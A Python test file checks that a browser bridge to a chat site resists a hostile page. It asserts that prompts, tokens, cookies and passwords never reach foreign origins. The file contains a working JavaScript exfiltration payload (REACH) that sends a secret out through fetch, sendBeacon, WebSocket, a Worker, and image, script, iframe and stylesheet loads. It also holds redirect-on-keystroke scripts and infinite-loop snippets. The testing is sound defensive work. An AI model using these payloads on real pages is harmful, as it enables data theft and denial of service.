"""A page that is not to be trusted: it goes to other origins, opens windows, loads, allocates and loops without end."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest
from openai import APIStatusError
from playwright.async_api import Error as PlaywrightError

from bridge.browser import Chromium
from bridge.errors import BridgeError
from bridge.session import open_session
from bridge.settings import BrowserSettings
from bridge.sites.base import Strayed
from bridge.sites.deepseek import Driver
from bridge.telemetry import WorkerState
from tests.hostile import COOKIE, TOKEN, bridge_to, foreign_origins, hostile_site, states
from tests.test_driver_live import answer_to

PROMPT = "wq83hfkz0alx92mvnt6yrueo the quick brown fox keeps this for itself 71bd5c09aa4e"
LIMIT = 20.0


async def test_a_page_that_leaves_the_site_is_lost_and_opened_anew(tmp_path: Path, chromium: Chromium) -> None:
    async with foreign_origins() as (foreign, _), hostile_site() as site, bridge_to(tmp_path, chromium, site) as run:
        seen = len(run.facts.seen)
        await site.order(f"location = '{foreign.url}'")
        lost = await run.facts.state("alice", WorkerState.BROKEN, seen)
        assert f"has left the site for {foreign.url}" in lost.reason
        await run.facts.state("alice", WorkerState.READY, seen)
        assert await run.ask(PROMPT) == answer_to(PROMPT)
        assert foreign.asked.is_set()
        assert foreign.pieces_of(PROMPT, TOKEN, COOKIE) == []


@pytest.mark.parametrize(
    "moment",
    [
        "addEventListener('input', () => { location = '%s'; }, {once: true, capture: true});",
        "addEventListener('keydown', () => { location = '%s'; }, {once: true, capture: true});",
        "setTimeout(() => { location = '%s'; }, 10);",
    ],
    ids=["when it is filled", "when the key comes", "at some moment"],
)
async def test_a_page_that_leaves_the_site_in_mid_prompt_takes_no_byte_of_it_along(
    tmp_path: Path, chromium: Chromium, moment: str
) -> None:
    async with foreign_origins() as (foreign, _), hostile_site() as site, bridge_to(tmp_path, chromium, site) as run:
        await site.order(f"document.querySelector('textarea').onkeydown = null; {moment % foreign.url}")
        seen = len(run.facts.seen)
        assert await run.ask(PROMPT) == answer_to(PROMPT)  # nothing was sent, so the page opened anew gets it
        async with asyncio.timeout(LIMIT):
            await foreign.asked.wait()
        await run.facts.state("alice", WorkerState.BROKEN, seen)
        assert len(site.received) == 1
        assert foreign.pieces_of(PROMPT, TOKEN, COOKIE) == []


async def test_an_answer_ends_with_the_document_that_asked_for_it_and_the_account_stays(
    tmp_path: Path, chromium: Chromium
) -> None:
    async with hostile_site() as site, bridge_to(tmp_path, chromium, site) as run:
        before = states(run.facts)
        site.on_prompt = "location = 'http://localhost:1/'"
        with pytest.raises(APIStatusError) as refused:
            await run.ask(PROMPT)
        assert refused.value.status_code == 502
        assert "cannot be reached" in refused.value.message
        site.on_prompt = ""
        assert await run.ask(PROMPT) == answer_to(PROMPT)
        assert states(run.facts) == before


async def test_a_site_that_leads_to_another_one_needs_a_person_and_is_not_asked_again_and_again(
    tmp_path: Path, chromium: Chromium
) -> None:
    async with foreign_origins() as (foreign, _), hostile_site() as site:
        site.leads_to = foreign.url
        async with bridge_to(tmp_path, chromium, site, WorkerState.CHALLENGED) as run:
            assert states(run.facts) == [WorkerState.CHALLENGED]
            assert site.loads == 1
            with pytest.raises(APIStatusError, match="leads to"):
                await run.ask(PROMPT)
        assert foreign.pieces_of(PROMPT, TOKEN, COOKIE) == []


async def test_a_site_that_leads_to_anothers_sign_in_is_one_to_log_in_to(tmp_path: Path, chromium: Chromium) -> None:
    async with foreign_origins() as (foreign, _), hostile_site() as site:
        site.leads_to = f"{foreign.url}/oauth/login?back=1"
        async with bridge_to(tmp_path, chromium, site, WorkerState.LOGGED_OUT) as run:
            assert states(run.facts) == [WorkerState.LOGGED_OUT]


async def test_a_page_that_leaves_the_site_each_time_is_left_alone_after_the_third(
    tmp_path: Path, chromium: Chromium
) -> None:
    async with foreign_origins() as (foreign, _), hostile_site() as site, bridge_to(tmp_path, chromium, site) as run:
        site.on_load = f"setTimeout(() => {{ location = '{foreign.url}'; }}, 1500);"
        await site.order("location.reload()")
        await run.facts.state("alice", WorkerState.CHALLENGED)
        assert states(run.facts).count(WorkerState.BROKEN) == 2
        assert foreign.pieces_of(TOKEN, COOKIE) == []


async def test_nothing_of_another_origin_gets_into_the_profile(tmp_path: Path, chromium: Chromium) -> None:
    async with foreign_origins() as (foreign, _), hostile_site() as site, bridge_to(tmp_path, chromium, site) as run:
        profile = run.store.load("alice")
        async with open_session(chromium, profile, Driver, run.settings) as session:
            await session.page.goto(foreign.url)
            with pytest.raises(Strayed):
                await session.capture(profile, LIMIT)
            await session.page.goto(site.url)
            captured = await session.capture(profile, LIMIT)
        assert [one["origin"] for one in captured.storage_state["origins"]] == [site.url]
        assert [cookie["domain"] for cookie in captured.storage_state["cookies"]] == ["127.0.0.1"]
        assert set(captured.session_storage) == {site.url}


async def test_a_password_is_not_typed_into_another_origins_form(tmp_path: Path, chromium: Chromium) -> None:
    async with foreign_origins() as (foreign, _), hostile_site() as site, bridge_to(tmp_path, chromium, site) as run:
        async with open_session(chromium, run.store.load("alice"), Driver, run.settings) as session:
            await session.page.goto(foreign.url)
            with pytest.raises(BridgeError, match="has left the site"):
                await session.driver.sign_in("somebody@example.com", PROMPT)
        assert foreign.pieces_of(PROMPT, "somebody@example.com") == []


REACH = """async ([url, secret]) => {
  const settled = work => Promise.race([work, new Promise(done => setTimeout(done, 3000))]).catch(() => null);
  const loads = element => new Promise(done => {
    element.onload = element.onerror = done;
    document.body.append(element);
  });
  const made = (name, more) => Object.assign(document.createElement(name), more);
  const socket = new WebSocket(url.replace("http", "ws") + "/?" + secret);
  const sent = `{method: "POST", body: "${secret}", mode: "no-cors"}`;
  const worker = `fetch("${url}/worker", ${sent}).finally(() => postMessage(1))`;
  const thread = new Worker(URL.createObjectURL(new Blob([worker])));
  navigator.sendBeacon(url + "/beacon", secret);
  await Promise.all([
    fetch(url, {method: "POST", body: secret, mode: "no-cors"}),
    fetch(url + "/?" + secret, {headers: {authorization: secret}}),
    loads(made("img", {src: `${url}/picture?${secret}`})),
    loads(made("script", {src: `${url}/script?${secret}`})),
    loads(made("iframe", {src: `${url}/frame?${secret}`})),
    loads(made("link", {rel: "stylesheet", href: `${url}/style?${secret}`})),
    new Promise(done => { socket.onclose = done; }),
    new Promise(done => { thread.onmessage = done; }),
  ].map(settled));
}"""


async def test_no_byte_of_a_page_reaches_this_machine_beside_the_site_itself(
    tmp_path: Path, chromium: Chromium
) -> None:
    async with foreign_origins() as (one, other), hostile_site() as site, bridge_to(tmp_path, chromium, site) as run:
        browser = BrowserSettings(check_every=0.5, call_limit=3)
        settings = run.settings.model_copy(update={"browser": browser})
        async with open_session(chromium, run.store.load("alice"), Driver, settings) as session:
            for url in (one.url, other.url, one.url.replace("localhost", "127.0.0.1")):
                await session.page.evaluate(REACH, [url, PROMPT.replace(" ", "-")])
            with pytest.raises(PlaywrightError, match="net::"):
                await session.page.goto(f"{one.url}/?{PROMPT}")
        assert (one.connections, other.connections) == (0, 0)


async def test_windows_that_a_page_opens_are_closed_and_downloads_refused(tmp_path: Path, chromium: Chromium) -> None:
    async with hostile_site() as site, bridge_to(tmp_path, chromium, site) as run:
        profile = run.store.load("alice")
        async with open_session(chromium, profile, Driver, run.settings) as session:
            await session.page.evaluate("() => { for (let n = 0; n < 5; n++) window.open('/?' + n); }")
            async with session.page.expect_download() as downloading:
                await session.page.evaluate(
                    "() => Object.assign(document.createElement('a'), {href: '/big', download: 'big'}).click()"
                )
            assert await (await downloading.value).failure() is not None
            async with asyncio.timeout(LIMIT):
                while len(pages := session.context.pages) > 1:
                    await asyncio.sleep(0.05)
            assert pages == [session.page]


@pytest.mark.parametrize("storm", ["for (;;) {}", "for (;;) alert('x')"])
async def test_a_page_that_never_comes_to_rest_is_replaced(tmp_path: Path, chromium: Chromium, storm: str) -> None:
    async with hostile_site() as site, bridge_to(tmp_path, chromium, site) as run:
        seen = len(run.facts.seen)
        await site.order(storm)
        await run.facts.state("alice", WorkerState.BROKEN, seen)
        await run.facts.state("alice", WorkerState.READY, seen)
        assert await run.ask("hello") == answer_to("hello")
